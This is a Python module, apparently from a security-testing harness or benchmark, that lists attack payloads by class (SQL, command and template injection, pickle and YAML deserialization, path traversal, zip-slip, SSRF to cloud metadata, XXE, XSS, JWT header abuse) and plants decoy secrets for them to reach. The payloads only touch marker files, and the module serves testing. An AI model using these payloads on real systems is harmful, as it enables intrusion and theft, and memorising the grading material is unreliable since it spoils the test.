"""What is sent, by class. ``{root}`` is the folder above the application; bytes are made here."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import tarfile
import zipfile
from pathlib import Path
from typing import Any

from judges import HOST, MARK, SECRET, TOUCH


class Runs:
    """Makes a file when it is unpickled."""

    def __reduce__(self) -> Any:
        return os.system, (TOUCH,)


def archive(kind: str, name: str) -> bytes:
    """An archive with one harmless entry and one of the given name."""
    made = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(made, "w") as target:
            target.writestr("notes.txt", "fine")
            target.writestr(name, "entry")
        return made.getvalue()
    with tarfile.open(fileobj=made, mode="w:gz" if kind == "tgz" else "w") as target:
        for entry in ("notes.txt", name):
            info = tarfile.TarInfo(entry)
            info.size = 5
            target.addfile(info, io.BytesIO(b"entry"))
    return made.getvalue()


def token(**header: Any) -> str:
    """A token, signed with an empty-handed guess, whose header is the attacker's."""
    import jwt

    return jwt.encode({"sub": "root"}, "k" * 32, algorithm="HS256", headers=header)


PICKLE = pickle.dumps(Runs())
XML = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{root}/secret.txt">]>'
    "<r><name>&x;</name><title>&x;</title></r>"
)
ATTACKS: dict[str, list[Any]] = {
    "sql": [
        f"x' OR {MARK} --",
        f"1 OR {MARK}",
        f"id, {MARK}",
        f'x" OR {MARK} --',
        f"x%' OR {MARK} --",
        f"\\' OR {MARK} --",
        f"x'/**/OR/**/{MARK}--",
    ],
    "nosql": [
        {"$ne": MARK},
        json.dumps({"$ne": MARK}),
        f"' || {MARK} || '",
        f'" || {MARK} || "',
        f"1 || {MARK}",
        {"$gt": ""},
        json.dumps({"$gt": ""}),
    ],
    "command": [
        f"x; {TOUCH}",
        f"$({TOUCH})",
        f"x' ; {TOUCH} ; '",
        f'x" ; {TOUCH} ; "',
        f"x | {TOUCH}",
        f"x\n{TOUCH}",
        f"`{TOUCH}`",
        f"x;touch${{IFS}}{MARK}",
        f"x&&{TOUCH}",
        f"x|touch\t{MARK}",
    ],
    "argument_injection": [f"--upload-pack={MARK}", f"-o{MARK}"],
    "code_eval": [
        f"__import__('pathlib').Path('{MARK}').touch()",
        f"x'+str(__import__('os').system('{TOUCH}'))+'",
        f"1)+__import__('os').system('{TOUCH}'",
        f"1\n__import__('os').system('{TOUCH}')",
        f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Pop'+'en'][0](['touch','{MARK}'])",
        f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['touch','{MARK}'])",
    ],
    "import_name": ["planted", "planted:run", "planted.run", "..planted", "os:system"],
    "deserialization": [
        PICKLE,
        base64.b64encode(PICKLE).decode(),
        PICKLE.hex(),
        base64.urlsafe_b64encode(PICKLE).decode(),
        base64.b64encode(
            marshal.dumps(compile(f"import os; os.system('{TOUCH}')", "x", "exec"))
        ).decode(),
    ],
    "yaml": [
        f'!!python/object/apply:os.system ["{TOUCH}"]',
        f'name: !!python/object/apply:os.system ["{TOUCH}"]',
        f'- !!python/object/new:os.system ["{TOUCH}"]',
    ],
    "path_read": [
        "../secret.txt",
        "../../secret.txt",
        "{root}/secret.txt",
        "....//secret.txt",
        "....//....//secret.txt",
        "../files_private/secret.txt",
        "..\\secret.txt",
        "../../../secret.txt",
        "x/../../../secret.txt",
        "%2e%2e/%2e%2e/secret.txt",
        "../secret",
        "../../secret",
        "{root}/secret",
        "../files_private/secret",
    ],
    "path_write": [
        f"../{MARK}",
        f"../../{MARK}.txt",
        f"{{root}}/{MARK}",
        f"....//....//{MARK}.txt",
        "../../victim.txt",
        "../victim.txt",
        "{root}/victim.txt",
        f"../uploads_old/{MARK}",
        "../../victim",
        f"a/../../../{MARK}",
    ],
    "archive": [
        (kind, name)
        for kind in ("zip", "tar", "tgz")
        for name in (f"../{MARK}", f"../../{MARK}", f"{{root}}/{MARK}", f"../uploads_old/{MARK}")
    ],
    "ssrf": [
        f"http://{HOST}/",
        f"https://{HOST}:8443/x",
        HOST,
        f"//{HOST}/",
        f"http://api.partner.example@{HOST}/",
        f"api.partner.example@{HOST}",
        f"http://api.partner.example.{HOST}/",
        f"@{HOST}/",
        f".{HOST}/",
        f"http://{HOST}/?https://api.partner.example/",
        f"http://{HOST}#api.partner.example",
        "http://169.254.169.254/latest",
        f"{HOST}#",
        f"{HOST}/x?",
    ],
    "redirect": [
        f"https://{HOST}/",
        f"//{HOST}/",
        f"/\\{HOST}/",
        f"https:{HOST}",
        f"/\t/{HOST}/",
        f"https://shop.example.{HOST}/",
        f"https://shop.example@{HOST}/",
        f"\\\\{HOST}",
        f"///{HOST}",
        f"@{HOST}",
        f".{HOST}",
        HOST,
        f"https://{HOST}/shop.example",
        f"https://{HOST}\\.shop.example/",
    ],
    "xss": [
        f"<{MARK}>",
        f'"><{MARK}>',
        f"' {MARK}='1",
        f'" {MARK}="1',
        f"x {MARK}=1 ",
        f"javascript:{MARK}(1)",
        f"';{MARK}(1);//",
        f'";{MARK}(1);//',
        f"</script><{MARK}>",
        f"{MARK}(1)",
        f"<scr<script>ipt><{MARK}>",
        f"<<b>{MARK}>",
    ],
    "template_injection": [
        "{{ cycler.__init__.__globals__.os.environ.ZQX }}",
        "{{ 'x'.__class__ and lipsum.__globals__.os.environ['ZQX'] }}",
        "${__import__('os').environ['ZQX']}",
        "{% import os %}{{ os.environ['ZQX'] }}",
        "x }}{{ cycler.__init__.__globals__.os.environ.ZQX }}{{ 'x",
    ],
    "header_injection": [
        f"x\r\nX-{MARK}: 1",
        f"x\nX-{MARK}: 1",
        f'x"; {MARK}="1',
        f"a@b.example\nBcc: {MARK}@attacker.example",
        f"a@b.example\r\nBcc: {MARK}@attacker.example",
        f"x\rX-{MARK}: 1",
    ],
    "log_injection": [
        f"x\n{MARK} root signed in",
        f"x\r\n{MARK} root signed in",
        f"x\r{MARK} root signed in",
    ],
    "xxe": [XML],
    "ldap": [f"*)({MARK}=*", f"x)({MARK}=1", f"x,ou={MARK}", f"*))(|({MARK}=*"],
    "xpath": [
        "x' or '1'='1",
        'x" or "1"="1',
        "1 or 1=1",
        "x'] | //*[@id or '1'='1",
        "x' or true() or '1'='2",
    ],
    "csv_formula": [
        f"=cmd|'/c {MARK}'!A1",
        f"+{MARK}",
        f"-{MARK}",
        f"@{MARK}",
        f"\t={MARK}",
        f" ={MARK}",
    ],
    "mass_assignment": ["x"],
    "token_key_lookup": [
        token(kid=f"../{MARK}"),
        token(kid=f"x' UNION SELECT {MARK} --"),
        token(jku=f"http://{HOST}/jwks"),
        token(x5u=f"http://{HOST}/cert"),
        token(kid=f"http://{HOST}/k"),
        token(iss=f"http://{HOST}"),
        token(kid=f"../../{MARK}"),
        token(kid=f"@{HOST}/"),
        token(kid=f"1 UNION SELECT {MARK}"),
    ],
    "host_header": [HOST],
    "exception_detail": ["x"],
    "secret_in_log": [MARK],
    "weak_hash": [MARK],
    "weak_random": ["x"],
    "crypto_mode": ["same block 16 b." * 4],
    "cookie_flags": ["x"],
    "regex_dos": [
        "a" * 40 + "!",
        "1" * 40 + "!",
        " " * 30000 + "x",
        ("a" * 30000) + "!",
        "a." * 30 + "!",
        "x," * 40 + "!",
    ],
}
ATTACKS["upload_name"] = ATTACKS["path_write"]


def plant(root: Path) -> None:
    """The files that attacks want to reach."""
    for name in ("secret.txt", "secret"):
        (root / name).write_text(SECRET, encoding="utf-8")
    private = root / "app/files_private"
    private.mkdir(exist_ok=True)
    for name in ("secret.txt", "secret"):
        (private / name).write_text(SECRET, encoding="utf-8")
    (root / "victim.txt").write_text(SECRET, encoding="utf-8")
    (root / "planted.py").write_text(
        f"from pathlib import Path\nPath('{MARK}').touch()\n\n\ndef run(*_):\n    return 'ran'\n",
        encoding="utf-8",
    )
    os.environ["ZQX"] = SECRET


def shaped(attack: Any, root: Path) -> Any:
    """An attack with the root filled in, archives built."""
    if attack == "@spaces":
        return " " * 40000 + "x"
    if attack == "xml:utf-16":
        return (
            XML.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
            .replace("{root}", str(root))
            .encode("utf-16")
        )
    if isinstance(attack, str) and attack.startswith("hex:"):
        return bytes.fromhex(attack[4:])
    if isinstance(attack, str):
        return attack.replace("{root}", str(root))
    if isinstance(attack, tuple):
        return archive(attack[0], attack[1].replace("{root}", str(root)))
    return attack
